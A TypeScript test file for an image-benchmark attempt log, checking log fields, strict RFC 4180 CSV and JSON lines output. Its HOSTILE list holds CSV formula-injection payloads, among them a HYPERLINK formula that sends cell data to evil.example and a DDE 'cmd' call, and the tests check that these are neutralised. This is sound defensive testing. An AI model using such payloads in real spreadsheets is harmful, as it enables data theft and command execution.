import { describe, expect, test } from 'vitest';

import type { Attempt } from '../../src/model/sample.ts';
import { LOG_COLUMNS, logEntries, renderLogCsv, renderLogLines } from '../../src/report/attempt-log.ts';
import { renderCsv } from '../../src/report/render-csv.ts';
import {
  makeCase,
  makeCell,
  makeFailure,
  makeRecord,
  makeRefusal,
  makeRoute,
  makeSample,
  makeSkipped,
} from '../fakes/record-factory.ts';

/** Reads RFC 4180 strictly: a bare quote or line feed outside quotes is an error. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < text.length;) {
    let value = '';
    if (text[at] === '"') {
      for (at += 1; !(text[at] === '"' && text[at + 1] !== '"'); at += text[at] === '"' ? 2 : 1) {
        if (at >= text.length) throw new Error('a quote is not closed');
        value += text[at]!;
      }
      at += 1;
    } else {
      value = /^[^",\r\n]*/.exec(text.slice(at))![0];
      at += value.length;
    }
    row.push(value);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      rows.push(row);
      row = [];
    } else throw new Error(`unexpected ${JSON.stringify(text.slice(at, at + 10))}`);
  }
  return rows;
}

const attempt = (changes: Partial<Attempt> = {}): Attempt => ({
  startedAt: '2026-11-20T06:00:01.000Z',
  elapsedMs: 8_240.4,
  outcome: 'image',
  exchange: {},
  billing: 'yes',
  ...changes,
});

const SHA = 'a'.repeat(64);
const sample = makeSample('sdxl', 'sky', {
  seed: 7,
  decodeMs: 21.4,
  attempts: [
    attempt({ outcome: 'rate-limited', billing: 'no', elapsedMs: 120, exchange: { requestId: 'req-1' } }),
    attempt({
      startedAt: '2026-11-20T06:00:03.000Z',
      cost: { micros: 39_000, basis: 'usage' },
      exchange: {
        servedModel: 'sdxl-base-1.0',
        servedBy: 'node-3',
        responseId: 'resp-9',
        requestId: 'req-2',
        deployment: { region: 'eu', quantisation: 'fp8' },
      },
    }),
  ],
});
const record = makeRecord({
  routes: [
    makeRoute('sdxl', {
      protocol: 'openai-images',
      model: 'sdxl',
      endpoint: '10.0.0.7/v1',
      owner: 'platform team',
      billing: 'none',
      hosting: {
        hardware: '2 x L40S',
        modelVersion: 'r7',
        deploymentHash: 'sha256:6c3a1f',
        servingConfig: { driver: '570.86' },
      },
    }),
  ],
  cases: [
    makeCase('sky', {
      family: 'edit',
      inputs: [
        { role: 'image', name: '../pictures/sky.png', sha256: SHA },
        { role: 'mask', name: 'mask.png', sha256: SHA },
      ],
    }),
  ],
  cells: [makeCell('sdxl', 'sky', { comparison: {} })],
  routeResults: [],
  samples: [sample],
});

describe('logEntries', () => {
  test('a line has all that a sound benchmark logs of a request, and the retry before it has a line of its own', () => {
    const [first, second, ...rest] = logEntries(record);
    expect(rest).toEqual([]);
    expect(first).toMatchObject({ attempt: 1, outcome: 'rate-limited', latency_ms: 120, request_id: 'req-1' });
    expect(first).not.toHaveProperty('retries');
    expect(first).not.toHaveProperty('stored_path');
    expect(first).not.toHaveProperty('decode_ms');
    expect(second).toEqual({
      run: '20261120-060000-c3d4',
      date: '2026-11-20T06:00:03.000Z',
      shot: 'sdxl/sky/0',
      route: 'sdxl',
      route_owner: 'platform team',
      billing_owner: 'none',
      protocol: 'openai-images',
      endpoint: '10.0.0.7/v1',
      model: 'sdxl',
      served_model: 'sdxl-base-1.0',
      served_by: 'node-3',
      case: 'sky',
      family: 'edit',
      prompt: 'A studio photograph of sky on a white table, soft light',
      input_assets: `../pictures/sky.png sha256:${SHA}; mask mask.png sha256:${SHA}`,
      size: '1024x1024',
      seed: 7,
      attempt: 2,
      retries: 1,
      outcome: 'image',
      latency_ms: 8_240,
      decode_ms: 21.4,
      cost_usd: 0.039,
      stored_path: `images/${sample.image.sha256}.png`,
      response_id: 'resp-9',
      request_id: 'req-2',
      hardware: '2 x L40S',
      model_version: 'r7',
      deployment_hash: 'sha256:6c3a1f',
      serving_config: 'driver=570.86',
      deployment: 'region=eu; quantisation=fp8',
    });
  });

  test('a refusal and a failure have no picture, a shot that was not sent no attempt, an untimed answer no latency', () => {
    const { latencyMs: _, ...untimed } = makeSample('sdxl', 'sky', { attempts: [attempt()] });
    const entries = logEntries({
      ...record,
      samples: [
        makeRefusal('sdxl', 'sky', { attempts: [attempt({ outcome: 'refused' })] }),
        makeFailure('sdxl', 'sky', { attempts: [attempt({ outcome: 'timeout', elapsedMs: 90_000 })] }),
        makeSkipped('sdxl', 'sky'),
        untimed,
      ],
    });
    expect(entries.map(({ outcome, latency_ms, retries }) => [outcome, latency_ms, retries])).toEqual([
      ['refused', 4_100, 0],
      ['timeout', 90_000, 0],
      ['skipped', undefined, undefined],
      ['image', undefined, 0],
    ]);
    expect(entries.map((entry) => 'stored_path' in entry)).toEqual([false, false, false, true]);
    expect(entries[1]).not.toHaveProperty('cost_usd');
  });
});

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  ' \n=1+1',
  '\t=1+1',
  '"=1+1"',
  '＝1+1',
  'a "quoted", comma; semicolon',
  'line\r\nbreak\nand\rmore',
  'nul\u0000 escape\u001b[2J tab\there',
  'half \ud800 pair 🦊',
  '',
];

describe('renderLogCsv', () => {
  test('hostile prompts stay in their column, and none begins as a formula', () => {
    const samples = HOSTILE.map((_, index) => makeSample('sdxl', `case-${index}`, { attempts: [attempt()] }));
    const cells = HOSTILE.map((prompt, index) => {
      const cell = makeCell('sdxl', `case-${index}`);
      return { ...cell, comparison: { ...cell.comparison, settings: { ...cell.comparison.settings, prompt } } };
    });
    const [head, ...rows] = parseCsv(renderLogCsv({ ...record, cells, samples }));
    expect(head).toEqual([...LOG_COLUMNS]);
    expect(rows).toHaveLength(HOSTILE.length);
    const prompts = rows.map((row) => row[LOG_COLUMNS.indexOf('prompt')]!);
    for (const row of rows) expect(row).toHaveLength(LOG_COLUMNS.length);
    for (const prompt of prompts) expect(prompt).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
    expect(prompts).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "' \n=1+1",
      "' =1+1",
      '\'"=1+1"',
      "'＝1+1",
      'a "quoted", comma; semicolon',
      'line\r\nbreak\nand\rmore',
      'nul  escape [2J tab here',
      'half \ufffd pair 🦊',
      '',
    ]);
  });

  test('texts of vendors and of the config are made safe too, numbers stay numbers', () => {
    const evil = makeSample('sdxl', 'sky', {
      attempts: [attempt({ exchange: { servedModel: '=1', responseId: '@x', deployment: { '=a': 'b' } } })],
    });
    const routes = [{ ...record.routes[0]!, owner: '-team' }];
    const rows = parseCsv(renderLogCsv({ ...record, routes, samples: [evil] }));
    const of = (column: (typeof LOG_COLUMNS)[number]): string => rows[1]![LOG_COLUMNS.indexOf(column)]!;
    expect([of('served_model'), of('response_id'), of('deployment'), of('route_owner')]).toEqual([
      "'=1",
      "'@x",
      "'=a=b",
      "'-team",
    ]);
    expect(of('latency_ms')).toBe('8240');
  });

  test('a table is RFC 4180: commas, CRLF at every end, quotes doubled, unknown empty', () => {
    expect(
      renderCsv(
        ['a', 'b'],
        [
          ['x,"y"', -1.5],
          [undefined, Number.NaN],
        ],
      ),
    ).toBe('a,b\r\n"x,""y""",-1.5\r\n,\r\n');
  });
});

test('the JSON lines keep every text as it is', () => {
  const [line, ...rest] = renderLogLines({ ...record, samples: [makeSkipped('sdxl', 'sky')] }).split('\n');
  expect(rest).toEqual(['']);
  expect(JSON.parse(line!)).toMatchObject({
    outcome: 'skipped',
    prompt: 'A studio photograph of sky on a white table, soft light',
  });
});
